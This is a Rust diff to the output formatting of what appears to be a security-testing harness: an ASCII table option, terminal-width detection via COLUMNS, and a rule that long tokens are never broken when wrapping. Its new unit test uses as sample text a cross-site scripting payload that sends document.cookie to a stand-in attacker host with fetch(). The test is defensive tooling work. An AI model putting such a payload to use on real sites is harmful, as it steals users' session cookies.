@@ -6,6 +6,7 @@ pub mod ablation;
 pub mod defenses;
 pub mod html;
 pub mod junit;
+pub mod lessons;
 pub mod markdown;
 pub mod transcript;
 
@@ -124,7 +125,11 @@ pub(crate) fn coloured(outcome: Outcome, text: &str) -> String {
 /// there is no terminal (a pipe, a file) or it reports no usable width.
 pub(crate) fn new_table() -> Table {
     let mut table = Table::new();
-    table.load_preset(UTF8_FULL_CONDENSED);
+    if crate::stdout::ascii() {
+        table.load_preset(comfy_table::presets::ASCII_FULL_CONDENSED);
+    } else {
+        table.load_preset(UTF8_FULL_CONDENSED);
+    }
     let arrangement = match table.width() {
         Some(width) if width >= 60 => ContentArrangement::Dynamic,
         _ => ContentArrangement::Disabled,
@@ -197,10 +202,24 @@ pub fn evidence(scenarios: &[ScenarioMeta], results: &[RunResult]) -> String {
 /// evidence stays readable on a projector. Piped output stays one line per
 /// result, for grep.
 pub(crate) fn hanging(lead: &str, text: &str) -> String {
-    if !std::io::stdout().is_terminal() {
-        return format!("{lead}{text}");
+    match width() {
+        Some(width) => hanging_at(width, lead, text),
+        None => format!("{lead}{text}"),
     }
-    hanging_at(textwrap::termwidth().max(60), lead, text)
+}
+
+/// The width to wrap to: `COLUMNS` when set (a projector's tmux pane, a
+/// test), else the terminal's; None when stdout is no terminal and
+/// `COLUMNS` is unset (piped output stays one line, for grep).
+pub(crate) fn width() -> Option<usize> {
+    let columns = std::env::var("COLUMNS")
+        .ok()
+        .and_then(|c| c.trim().parse::<usize>().ok());
+    match columns {
+        Some(columns) => Some(columns.max(40)),
+        None if std::io::stdout().is_terminal() => Some(textwrap::termwidth().max(60)),
+        None => None,
+    }
 }
 
 /// How far the text of a [`hanging`] paragraph continues in when its lead is
@@ -219,10 +238,24 @@ pub(crate) fn hanging_at(width: usize, lead: &str, text: &str) -> String {
     } else {
         " ".repeat(lead_width)
     };
+    // Tokens are never split (below): when not even the text's first word
+    // fits after the lead, the text starts on the next line.
+    let first_word = text.split_whitespace().next().unwrap_or_default();
+    if lead_width + textwrap::core::display_width(first_word) > width {
+        let options = textwrap::Options::new(width)
+            .initial_indent(&indent)
+            .subsequent_indent(&indent)
+            .word_splitter(textwrap::WordSplitter::NoHyphenation)
+            .break_words(false);
+        return format!("{}\n{}", lead.trim_end(), textwrap::fill(text, options));
+    }
     let options = textwrap::Options::new(width)
         .initial_indent(lead)
         .subsequent_indent(&indent)
-        .word_splitter(textwrap::WordSplitter::NoHyphenation);
+        .word_splitter(textwrap::WordSplitter::NoHyphenation)
+        // A token longer than the line overflows it rather than split
+        // (`<` `/script>`, `do` `cument.cookie`): copied, it must still work.
+        .break_words(false);
     textwrap::fill(text, options)
 }
 
@@ -347,6 +380,21 @@ mod tests {
             wrapped.lines().all(|line| line.chars().count() <= 100),
             "{wrapped}"
         );
+    }
+
+    #[test]
+    fn a_token_longer_than_the_line_is_never_split() {
+        let text =
+            "the body <script>fetch('http://evil.lab.test/c?'+document.cookie)</script> ends";
+        for width in 40..70 {
+            let wrapped = hanging_at(width, "      body, 80 bytes: ", text);
+            let words: Vec<&str> = wrapped.split_whitespace().collect();
+            assert!(
+                words
+                    .contains(&"<script>fetch('http://evil.lab.test/c?'+document.cookie)</script>"),
+                "{wrapped}"
+            );
+        }
     }
 
     #[test]
